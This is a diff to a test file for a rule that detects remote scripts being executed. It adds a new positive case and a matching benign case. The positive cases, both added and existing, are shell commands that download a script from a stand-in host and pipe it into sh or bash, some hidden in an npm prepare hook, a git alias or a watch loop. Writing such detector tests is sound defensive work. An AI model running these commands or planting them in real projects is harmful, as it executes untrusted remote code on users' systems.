@@ -67,6 +67,8 @@ describe('WPK-P2-005 remote script executed', () => {
 
 ruleCases(remoteScriptExecuted, {
   finds: [
+    'sh -c "$(printf %s "$(wget -qO- https://get.example.org/i)")"',
+
     'npm pkg set scripts.prepare="wget -qO- https://get.example.org/p | bash"\nnpm ci',
     "git config --global alias.st '!curl -s https://get.example.org/x | sh; git status'",
     "watch -n 60 'curl -s https://get.example.org/x | sh'",
@@ -84,6 +86,8 @@ ruleCases(remoteScriptExecuted, {
     ),
   ],
   leaves: [
+    'sh -c "$(printf %s "make test")"',
+
     'npm pkg set scripts.prepare="husky" version="1.2.0"\nnpm ci',
     "git config --global alias.st 'status --short --branch'",
     "watch -n 60 'curl -s https://api.example.org/health | jq .status'",
